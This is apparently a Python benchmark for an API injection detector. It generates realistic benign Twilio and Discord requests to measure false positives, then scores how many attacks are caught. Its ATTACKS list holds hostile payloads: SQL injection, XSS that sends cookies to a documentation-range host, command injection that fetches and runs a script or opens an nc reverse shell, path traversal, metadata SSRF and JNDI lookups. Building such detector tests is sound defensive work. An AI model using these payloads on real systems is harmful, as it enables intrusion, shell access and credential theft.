"""What schema awareness does to injection detection on real APIs: false positives cut, recall kept.

Benign requests are generated for every operation of a real API description (Twilio's 2010 API and
Discord's), with values drawn from each parameter's schema: documented enum members, integers in
range, RFC 3339 dates and date-times in several valid spellings, UUIDs, Twilio SIDs, Discord
snowflakes, phone numbers (E.164 where the spec says phone-number, national spellings where it only
says string) and, for free text, what people type: names with apostrophes, addresses, product
names, messages that say "select", "union", "drop", "or", "script", URLs and emails. Each request
is routed as the route stage would (`exchange.route` is the spec template, `path_params` its
values) and judged by the request-phase checks three ways:

* no facts: every value is pattern-matched;
* spec facts: `InventoryFacts(Inventory(), spec)`;
* learned facts: `InventoryFacts(inventory, None)` after a separate benign stream of the same
  generator went through an `Inventory`.

Then attacks written for this script go into typed parameters (integer, date, enum, phone, ...)
and free-text ones, bare and appended to a valid value; recall is reported per context, for the
`inj.*` scan and for `schema.type_mismatch`. Seeded; well under a minute.

    python benchmarks/schema_effect.py [--per-op N] [--learn-per-op N] [--seed S] [--spec FILE]
"""

from __future__ import annotations

import argparse
import random
import re
import time
import uuid
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import orjson

from apishield.checks import CheckContext, ParamRule, request_findings
from apishield.exchange import Exchange, Finding
from apishield.facts import InventoryFacts
from apishield.ingest.openapi import load_spec
from apishield.inventory.learner import Inventory
from apishield.inventory.spec import ApiSpec, SpecOperation
from apishield.normalise.routes import path_params
from apishield.testing import make_exchange

CORPORA = Path(__file__).resolve().parents[2] / "shared" / "corpora" / "openapi"
MISMATCH = "schema.type_mismatch"


@dataclass(frozen=True, slots=True)
class Api:
    name: str
    file: str
    host: str
    body: str
    """"form" (application/x-www-form-urlencoded) or "json"."""
    authorization: str


APIS = (
    Api(
        "twilio",
        "twilio_api_v2010.json",
        "api.twilio.com",
        "form",
        "Basic QUMwMTIzNDU2Nzg5YWJjZGVmMDEyMzQ1Njc4OWFiY2RlZjpzZWNyZXQ=",
    ),
    Api(
        "discord", "discord_openapi.json", "discord.com", "json", "Bot MTk4NjIyNDgzNDcx.Gx1a2b.c3d4"
    ),
)

# -- realistic values -------------------------------------------------------------------------


def _pools(text: str) -> dict[str, tuple[str, ...]]:
    """Value pools, one value a line under a [name] header: easy to read and extend."""
    pools: dict[str, list[str]] = {}
    current: list[str] = []
    for line in text.splitlines():
        if line.startswith("[") and line.endswith("]"):
            current = pools.setdefault(line[1:-1], [])
        elif line:
            current.append(line)
    return {name: tuple(values) for name, values in pools.items()}


POOLS = _pools(
    """
[names]
Siobhan O'Brien
D'Angelo Ramirez
Mary-Kate O'Neil
Zoë Müller-Lüdenscheidt
Nguyễn Văn An
Conan O'Malley & Sons
Support line (O'Hare office)
Union Square store
Select Comfort hotline
Drop-off desk #2
Kids' club reminders
Sales and Marketing
[addresses]
12 O'Connell Street
1600 Amphitheatre Pkwy, Suite 100
Flat 3/2, 45 Union Road
221B Baker St.
Rue de l'Église 7
PO Box 1234
[cities]
San Francisco
Coeur d'Alene
Martha's Vineyard
St. John's
L'Aquila
Berlin
[regions]
CA
NY
Île-de-France
Bavaria
Ontario
[postcodes]
94105
10115
SW1A 1AA
H2X 1Y4
2000
[sentences]
Hi Sam, please select a time that works and reply YES or NO.
Your order #4521 has shipped and will arrive Tue or Wed.
Reminder: the union meeting is at 6pm in room 204 -- bring your ID.
Don't forget to drop the keys at the front desk; thanks!
Your verification code is 482913. It expires in 10 minutes.
Select 1 for sales, 2 for support, or 0 for the operator.
We've updated our terms & conditions: https://example.com/terms?lang=en
Table for 4 at 7:30pm (see you there!)
Drama club: the script reading is moved to Friday, and drop-ins are welcome.
Delete this message if you didn't request a password reset.
Re: invoice 2024/03 (net 30) - please pay by 1/4 or call 555-0199.
Meet at O'Hare, gate B12, and text me when you land.
50% off all items where the price ends in .99, today only!
Use code SPRING-24 at checkout; limit 1 per customer.
Can you update the order from 3 to 5 units? And ship it to my work address.
Insert the SIM card, then restart the phone.
Sleep well & see you tomorrow <3
The drop in union membership is not as bad as the press says.
[products]
iPhone 15 Pro (256 GB)
Men's Running Shoes - Size 10
USB-C to USB-C cable, 2m
Ben & Jerry's Cookie Dough
Select Series tote bag
Script Pro licence (1 seat)
Drop-leaf table, oak
[emails]
siobhan.obrien@example.com
o'brien@example.ie
sales+twilio@acme.example
first.last@sub.example.co.uk
[urls]
https://hooks.example.com/twilio/voice
https://api.acme.example/v1/callbacks/sms?tenant=42&region=eu
https://example.com/status#section-2
https://my-app.example.net/handle_call.php?lang=en-US
https://example.org/select/union-station/drop-off?from=a&or=b
http://203.0.113.40:8080/webhooks/status
[national_phones]
(415) 555-0123
415-555-0123
415.555.0123
+1 415-555-0123
+44 20 7946 0958
0151 2345 6789
[passwords]
Tr0ub4dor&3
correct horse battery staple
p@ss:w0rd!2024
S3cr3t#Pa$$
[tokens]
PASMzYzZjFhMzItNDc1Ni00ZjQ0LWE4NjAtYjMyOWZkZDE2NmYx
eyJwYWdlIjozLCJzaXplIjo1MH0
dGhpcyBpcyBhIGN1cnNvcg==
"""
)
NAMES = POOLS["names"]
ADDRESSES = POOLS["addresses"]
CITIES = POOLS["cities"]
REGIONS = POOLS["regions"]
POSTCODES = POOLS["postcodes"]
SENTENCES = POOLS["sentences"]
PRODUCTS = POOLS["products"]
EMAILS = POOLS["emails"]
URLS = POOLS["urls"]
NATIONAL_PHONES = POOLS["national_phones"]
PASSWORDS = POOLS["passwords"]
TOKENS = POOLS["tokens"]
DATE_TIMES = (
    "{d}T{t}Z",
    "{d}T{t}.123Z",
    "{d}T{t}.123456Z",
    "{d}T{t}+02:00",
    "{d}T{t}-07:00",
    "{d}T{t}+05:30",
    "{d}t{t}z",
    "{d}T{t}.5-03:00",
)
"""RFC 3339 date-time spellings that real clients send (JavaScript, Python, Go, Java defaults)."""
DATA_URI = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAD"
"""Discord's image data: a data URI, as its docs spell it."""

_TEXT_BY_NAME: tuple[tuple[re.Pattern[str], tuple[str, ...]], ...] = (
    (re.compile(r"e-?mail", re.I), EMAILS),
    (re.compile(r"url|callback|uri|href|link", re.I), URLS),
    (re.compile(r"street|address", re.I), ADDRESSES),
    (re.compile(r"city|locality", re.I), CITIES),
    (re.compile(r"region|state|province", re.I), REGIONS),
    (re.compile(r"postal|zip", re.I), POSTCODES),
    (re.compile(r"password|secret", re.I), PASSWORDS),
    (re.compile(r"token|cursor", re.I), TOKENS),
    (re.compile(r"^(to|from|callerid|phone|phonenumber|number)$", re.I), NATIONAL_PHONES),
    (re.compile(r"name|nick|title|label|customer", re.I), NAMES),
    (re.compile(r"body|content|message|description|reason|topic|text|bio", re.I), SENTENCES),
    (re.compile(r"query|search|^q$|product|item", re.I), PRODUCTS),
)
_SID = re.compile(r"\^?([A-Z]{2})\[0-9a-fA-F\]\{32\}\$?")


class Values:
    """Draws a realistic value for a schema; the label says what kind of value it drew."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def draw(self, name: str, schema: Mapping[str, Any], depth: int = 0) -> tuple[Any, str]:
        schema = _flatten(schema, self.rng)
        if "const" in schema:
            return schema["const"], "enum"
        enum = schema.get("enum")
        if isinstance(enum, list) and enum:
            return self.rng.choice(enum), "enum"
        kind = _type(schema, self.rng)
        if kind in ("integer", "number", "boolean"):
            return self._scalar(kind, schema), kind
        if kind == "array":
            return self._array(name, schema, depth)
        if kind == "object" or "properties" in schema:
            return self.object(schema, depth + 1), "object"
        return self._string(name, schema)

    def object(self, schema: Mapping[str, Any], depth: int) -> dict[str, Any]:
        return {name: value for name, value, _ in self.properties(schema, depth)}

    def properties(self, schema: Mapping[str, Any], depth: int) -> list[tuple[str, Any, str]]:
        """Required properties and about half the optional ones, nesting a few levels at most."""
        properties = schema.get("properties")
        if not isinstance(properties, Mapping) or depth > 3:
            return []
        required = set(schema.get("required") or ())
        out = []
        for prop, sub in properties.items():
            if isinstance(sub, Mapping) and (prop in required or self.rng.random() < 0.5):
                out.append((str(prop), *self.draw(str(prop), sub, depth)))
        return out

    def _scalar(self, kind: str, schema: Mapping[str, Any]) -> Any:
        rng = self.rng
        if kind == "boolean":
            return rng.random() < 0.5
        low = schema.get("minimum", schema.get("exclusiveMinimum", 0))
        high = schema.get("maximum", schema.get("exclusiveMaximum", low + 1000))
        if not isinstance(low, int | float) or not isinstance(high, int | float):
            low, high = 0, 1000
        if kind == "integer":
            return rng.randint(int(low), max(int(low), int(high)))
        return round(rng.uniform(float(low), float(high)), rng.choice((1, 2, 4)))

    def _array(self, name: str, schema: Mapping[str, Any], depth: int) -> tuple[Any, str]:
        items = schema.get("items")
        items = items if isinstance(items, Mapping) else {"type": "string"}
        drawn = [self.draw(name, items, depth + 1) for _ in range(self.rng.randint(1, 2))]
        return [value for value, _ in drawn], f"array of {drawn[0][1]}"

    def _string(self, name: str, schema: Mapping[str, Any]) -> tuple[str, str]:
        rng = self.rng
        fmt = str(schema.get("format", ""))
        sid = _SID.fullmatch(str(schema.get("pattern", "")))
        if sid:
            return sid.group(1) + f"{rng.getrandbits(128):032x}", "sid"
        if fmt == "snowflake" or schema.get("pattern") == "^(0|[1-9][0-9]*)$":
            return str(rng.randint(10**16, 2**63 - 1)), "snowflake"
        if fmt == "date":
            return self._date(), "date"
        if fmt == "date-time":
            spelling = rng.choice(DATE_TIMES)
            return spelling.format(d=self._date(), t=self._time()), "date-time"
        if fmt == "uuid":
            text = str(uuid.UUID(int=rng.getrandbits(128), version=4))
            return (text.upper() if rng.random() < 0.2 else text), "uuid"
        if fmt == "phone-number":
            return f"+1{rng.randint(201, 989)}555{rng.randint(0, 9999):04d}", "phone (E.164)"
        if fmt in ("uri", "url"):
            return rng.choice(URLS), "uri"
        if fmt == "email":
            return rng.choice(EMAILS), "email"
        if fmt == "iso-country-code":
            return rng.choice(("US", "GB", "DE", "FR", "AU", "CA")), "country code"
        if fmt == "twiml":
            return self._twiml(), "twiml"
        if schema.get("contentEncoding") in ("base64", "binary"):
            return (
                "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAAD",
                "base64",
            )
        return self._text(name)

    def _text(self, name: str) -> tuple[str, str]:
        for pattern, pool in _TEXT_BY_NAME:
            if pattern.search(name):
                label = "phone (national)" if pool is NATIONAL_PHONES else "text"
                return self.rng.choice(pool), label
        return self.rng.choice((*NAMES, *PRODUCTS, *SENTENCES[:8])), "text"

    def _date(self) -> str:
        rng = self.rng
        return f"{rng.randint(2019, 2025)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"

    def _time(self) -> str:
        rng = self.rng
        return f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"

    def _twiml(self) -> str:
        name = self.rng.choice(NAMES[:4])
        return f'<Response><Say voice="alice">Hello {name}, press 1 or 2.</Say></Response>'


def _flatten(schema: Mapping[str, Any], rng: random.Random) -> Mapping[str, Any]:
    """One concrete branch: allOf merged, a non-null oneOf/anyOf branch picked (consts: an enum)."""
    merged = dict(schema)
    for part in merged.pop("allOf", None) or ():
        if isinstance(part, Mapping):
            merged = {**_flatten(part, rng), **{k: v for k, v in merged.items() if v != []}}
    branches = [
        b
        for b in (merged.pop("oneOf", None) or merged.pop("anyOf", None) or ())
        if isinstance(b, Mapping) and b.get("type") != "null"
    ]
    if branches and all("const" in b for b in branches):
        return {**merged, "enum": [b["const"] for b in branches]}
    if branches:
        return {**merged, **_flatten(rng.choice(branches), rng)}
    return merged


def _type(schema: Mapping[str, Any], rng: random.Random) -> str:
    kind = schema.get("type", "string")
    if isinstance(kind, list):
        kinds = [k for k in kind if k != "null"] or ["string"]
        kind = rng.choice(kinds)
    return str(kind)


# -- requests ---------------------------------------------------------------------------------


@dataclass(slots=True)
class Param:
    location: str
    """"path", "query" or "body"."""
    name: str
    value: Any
    label: str
    """What the generator drew: "integer", "date-time", "text", "sid", ..."""


@dataclass(slots=True)
class Sample:
    """One request before it is put on the wire, so attacks can swap a single value."""

    api: Api
    op: SpecOperation
    params: list[Param]
    raw_names: bool = False
    """Write names such as `StartTime<` unencoded, as `curl --data-urlencode` does."""


def samples(api: Api, spec: ApiSpec, per_op: int, rng: random.Random) -> Iterator[Sample]:
    values = Values(rng)
    for op in spec.operations:
        for _ in range(per_op):
            yield Sample(api, op, list(_params(op, api, values)), rng.random() < 0.3)


def _params(op: SpecOperation, api: Api, values: Values) -> Iterator[Param]:
    rng = values.rng
    for param in op.parameters:
        if param.location == "path" or (
            param.location == "query" and (param.required or rng.random() < 0.5)
        ):
            value, label = values.draw(param.name, param.schema)
            yield Param(param.location, param.name, value, label)
    schema = op.request_schema
    if isinstance(schema, Mapping):
        for name, value, label in values.properties(schema, 0):
            yield Param("body", name, value, label)


def exchange_of(sample: Sample) -> Exchange:
    """The request on the wire, routed to its spec template with the route stage's path values."""
    op, api = sample.op, sample.api
    path = op.path
    for param in sample.params:
        if param.location == "path":
            path = path.replace("{" + param.name + "}", quote(_text(param.value), safe=""))
    query = _form([p for p in sample.params if p.location == "query"], sample.raw_names)
    headers = {
        "host": api.host,
        "user-agent": "twilio-python/9.0.0 (Linux x86_64) Python/3.11.8",
        "accept": "application/json",
        "authorization": api.authorization,
    }
    body = None
    fields = [p for p in sample.params if p.location == "body"]
    if fields and api.body == "json":
        headers["content-type"] = "application/json"
        body = orjson.dumps({p.name: p.value for p in fields})
    elif fields:
        headers["content-type"] = "application/x-www-form-urlencoded"
        body = _form(fields, sample.raw_names).encode()
    exchange = make_exchange(
        op.method, path, query=query, headers=headers, body=body, host=api.host
    )
    exchange.request.scheme = "https"
    exchange.route = op.path
    exchange.path_params = path_params(op.path, path)
    return exchange


def _form(params: list[Param], raw_names: bool) -> str:
    pairs: list[str] = []
    for param in params:
        name = param.name if raw_names else quote_plus(param.name)
        values = param.value if isinstance(param.value, list) else [param.value]
        pairs.extend(f"{name}={quote_plus(_text(value))}" for value in values)
    return "&".join(pairs)


def _text(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict | list):
        return orjson.dumps(value).decode()
    return str(value)


# -- judging ----------------------------------------------------------------------------------


@dataclass(slots=True)
class Tally:
    """What one context made of one set of requests."""

    requests: int = 0
    flagged: int = 0
    """Requests with at least one inj.* finding."""
    mismatched: int = 0
    """Requests with at least one schema.type_mismatch finding."""
    rules: Counter[str] = field(default_factory=Counter)
    examples: dict[str, list[str]] = field(default_factory=dict)
    labels: Counter[str] = field(default_factory=Counter)
    """What the generator drew for the values that were flagged."""
    seconds: float = 0.0

    def add(self, sample: Sample, findings: list[Finding]) -> tuple[bool, bool]:
        self.requests += 1
        injections = [f for f in findings if f.rule_id.startswith("inj.")]
        mismatch = any(f.rule_id == MISMATCH for f in findings)
        self.flagged += bool(injections)
        self.mismatched += mismatch
        for finding in findings:
            if finding.rule_id.startswith("inj.") or finding.rule_id == MISMATCH:
                self._note(sample, finding)
        return bool(injections), mismatch

    def _note(self, sample: Sample, finding: Finding) -> None:
        self.rules[finding.rule_id] += 1
        evidence = finding.evidence
        name = evidence.get("name", "")
        drawn = next((p for p in sample.params if p.name == name), None)
        self.labels[drawn.label if drawn else f"({evidence.get('location', '?')})"] += 1
        shown = (
            evidence.get("sample")
            or f"{drawn.value if drawn else '?'} (not {evidence['expected']})"
        )
        seen = self.examples.setdefault(finding.rule_id, [])
        if len(seen) < 3 and f"{name}={shown}" not in seen:
            seen.append(f"{name}={shown}"[:90])


def judge(batch: list[Sample], context: CheckContext) -> Tally:
    tally = Tally()
    started = time.perf_counter()
    for sample in batch:
        tally.add(sample, request_findings(exchange_of(sample), context))
    tally.seconds = time.perf_counter() - started
    return tally


def learned_facts(train: list[Sample]) -> InventoryFacts:
    inventory = Inventory()
    for sample in train:
        inventory(exchange_of(sample))
    return InventoryFacts(inventory, None)


# -- attacks ----------------------------------------------------------------------------------

ATTACKS = (
    ("sqli", "' OR '1'='1' -- "),
    ("sqli", "1 UNION SELECT username, password_hash FROM admin_users--"),
    ("sqli", "1; DROP TABLE accounts"),
    ("sqli", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"),
    ("xss", "<script>fetch('//203.0.113.9/?c='+document.cookie)</script>"),
    ("xss", '"><svg/onload=alert(document.domain)>'),
    ("xss", "javascript:alert(1)//"),
    ("cmd", "; cat /etc/passwd"),
    ("cmd", "$(curl -s http://203.0.113.9/x.sh | sh)"),
    ("cmd", "| nc -e /bin/sh 203.0.113.9 4444"),
    ("traversal", "../../../../etc/shadow"),
    ("traversal", "..\\..\\..\\windows\\win.ini"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("jndi", "${jndi:ldap://203.0.113.9:1389/Exploit}"),
    ("jndi", "${${lower:j}ndi:${lower:r}mi://203.0.113.9/o}"),
)
"""Written for this benchmark, one technique each: not taken from any corpus."""


@dataclass(frozen=True, slots=True)
class Slot:
    """A parameter of one sample that an attack goes into, and what the spec facts call it."""

    sample: Sample
    index: int
    kind: str
    """The spec rule's kind ("integer", "enum", ...) or "free text"."""


def slots(batch: list[Sample], facts: InventoryFacts, per_kind: int) -> list[Slot]:
    """Up to per_kind parameters of each kind, each from a different operation."""
    chosen: dict[str, list[Slot]] = {}
    used: set[tuple[str, str, str]] = set()
    for sample in batch:
        op_key = (sample.op.method, sample.op.path)
        rules = facts.facts(exchange_of(sample))
        for index, param in enumerate(sample.params):
            rule = rules.params.get((param.location, param.name)) if rules else None
            kind = rule.kind if rule else "free text" if param.label == "text" else ""
            if not kind or isinstance(param.value, list | dict):
                continue
            bucket = chosen.setdefault(kind, [])
            if len(bucket) < per_kind and (kind, *op_key) not in used:
                bucket.append(Slot(sample, index, kind))
                used.add((kind, *op_key))
    return [slot for bucket in chosen.values() for slot in bucket]


def date_only(batch: list[Sample], facts: InventoryFacts) -> list[Sample]:
    """Samples whose spec-typed date-time values are cut to a bare date.

    Twilio types its list filters (`StartTime`, `DateSent<`, ...) as date-time while their own
    descriptions tell clients to send `YYYY-MM-DD`, so this is what documented usage looks like.
    """
    out = []
    for sample in batch:
        rules = facts.facts(exchange_of(sample))
        params = [
            replace(p, value=str(p.value)[:10], label="date in a date-time param")
            if rules and _kind(rules.params, p) == "date-time" and isinstance(p.value, str)
            else p
            for p in sample.params
        ]
        if params != sample.params:
            out.append(replace(sample, params=params))
    return out


def _kind(rules: Mapping[tuple[str, str], ParamRule], param: Param) -> str:
    rule = rules.get((param.location, param.name))
    return rule.kind if rule else ""


def attacked(slot: Slot, payload: str, appended: bool) -> Sample:
    params = list(slot.sample.params)
    original = params[slot.index]
    value = _text(original.value) + payload if appended else payload
    params[slot.index] = replace(original, value=value)
    return replace(slot.sample, params=params)


# -- report -----------------------------------------------------------------------------------


def _share(part: int, whole: int) -> str:
    return f"{part:5d}/{whole:<5d} ({100 * part / whole:5.1f}%)" if whole else "    -"


def report_benign(name: str, tallies: dict[str, Tally]) -> None:
    print(f"\n[{name}] benign requests: {tallies['no facts'].requests}")
    for context, tally in tallies.items():
        flagged, mism = _share(tally.flagged, tally.requests), tally.mismatched
        cost = 1e6 * tally.seconds / max(tally.requests, 1)
        print(
            f"  {context:14s} flagged by inj.*: {flagged}   with {MISMATCH}: {mism:4d}"
            f"   ({cost:.0f} us/request built and judged)"
        )
    base = tallies["no facts"].flagged
    for context in ("spec facts", "learned facts"):
        if context in tallies and base:
            cut = 100 * (base - tallies[context].flagged) / base
            print(f"  reduction with {context}: {cut:.1f}% of flagged benign requests")
    shown: set[str] = set()
    for context, tally in tallies.items():
        if not tally.rules:
            continue
        print(f"  {context}: rules fired (findings) {dict(tally.rules.most_common(6))}")
        print(f"    on values drawn as {dict(tally.labels.most_common(6))}")
        for rule, seen in sorted(tally.examples.items(), key=lambda kv: -tally.rules[kv[0]])[:5]:
            if rule not in shown:
                shown.add(rule)
                print(f"    e.g. {rule}: " + " | ".join(seen))


@dataclass(slots=True)
class Recall:
    """Attacks in one group of parameters under one context: how many, caught how."""

    total: int = 0
    injection: int = 0
    mismatch: int = 0
    either: int = 0
    missed: list[str] = field(default_factory=list)


def score_attacks(
    slot_list: list[Slot], contexts: dict[str, CheckContext]
) -> dict[tuple[str, str], Recall]:
    rows: dict[tuple[str, str], Recall] = {}
    for slot in slot_list:
        group = "typed" if slot.kind != "free text" else "free text"
        for cls, payload in ATTACKS:
            for appended in (False, True):
                sample = attacked(slot, payload, appended)
                for context_name, context in contexts.items():
                    findings = request_findings(exchange_of(sample), context)
                    row = rows.setdefault((group, context_name), Recall())
                    inj = any(f.rule_id.startswith("inj.") for f in findings)
                    mism = any(f.rule_id == MISMATCH for f in findings)
                    row.total += 1
                    row.injection += inj
                    row.mismatch += mism
                    row.either += inj or mism
                    if not inj and len(row.missed) < 4:
                        row.missed.append(
                            f"{cls} in {slot.kind} {slot.sample.params[slot.index].name}"
                        )
    return rows


def report_attacks(name: str, slot_list: list[Slot], contexts: dict[str, CheckContext]) -> None:
    kinds = Counter(slot.kind for slot in slot_list)
    print(f"\n[{name}] attacks: {len(ATTACKS)} payloads x bare/appended x slots {dict(kinds)}")
    header = f"{'caught by inj.*':>22s} {MISMATCH:>22s} {'either':>22s}"
    print(f"  {'params':10s} {'context':14s} {header}")
    for (group, context_name), row in sorted(score_attacks(slot_list, contexts).items()):
        print(
            f"  {group:10s} {context_name:14s} {_share(row.injection, row.total)} "
            f"{_share(row.mismatch, row.total)} {_share(row.either, row.total)}"
        )
        if row.missed:
            print("    missed by inj.*: " + "; ".join(row.missed))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--per-op", type=int, default=12, help="benign requests per operation")
    parser.add_argument("--learn-per-op", type=int, default=120, help="learning stream per op")
    parser.add_argument("--slots", type=int, default=6, help="attacked params per kind")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--api", choices=[a.name for a in APIS], action="append")
    args = parser.parse_args()
    started = time.perf_counter()
    request_findings(make_exchange(), CheckContext())  # compiles the scan database once
    for api in APIS:
        if args.api and api.name not in args.api:
            continue
        run_api(api, args)
    print(f"\n{time.perf_counter() - started:.1f} s")


def run_api(api: Api, args: argparse.Namespace) -> None:
    spec = load_spec(CORPORA / api.file)
    rng = random.Random(f"{args.seed}:{api.name}")
    batch = list(samples(api, spec, args.per_op, rng))
    train = list(samples(api, spec, args.learn_per_op, random.Random(f"{args.seed}:learn")))
    spec_facts = InventoryFacts(Inventory(), spec)
    contexts = {
        "no facts": CheckContext(),
        "spec facts": CheckContext(facts=spec_facts),
        "learned facts": CheckContext(facts=learned_facts(train)),
    }
    print(f"\n== {spec.title} ({api.file}): {len(spec.operations)} operations ==")
    report_benign(api.name, {name: judge(batch, ctx) for name, ctx in contexts.items()})
    report_subset(
        "with a comparison-suffixed name (StartTime<, DateSent>, ...)",
        [s for s in batch if any("<" in p.name or ">" in p.name for p in s.params)],
        contexts,
    )
    report_subset(
        "with a date-only value in a spec date-time param",
        date_only(batch, spec_facts),
        contexts,
    )
    report_attacks(api.name, slots(batch, spec_facts, args.slots), contexts)


def report_subset(title: str, subset: list[Sample], contexts: dict[str, CheckContext]) -> None:
    if not subset:
        return
    raw = sum(s.raw_names for s in subset)
    print(f"  benign requests {title}: {len(subset)} ({raw} with raw names)")
    for context_name, context in contexts.items():
        tally = judge(subset, context)
        print(
            f"    {context_name:14s} inj.*: {_share(tally.flagged, tally.requests)}"
            f"   {MISMATCH}: {_share(tally.mismatched, tally.requests)}"
        )


if __name__ == "__main__":
    main()
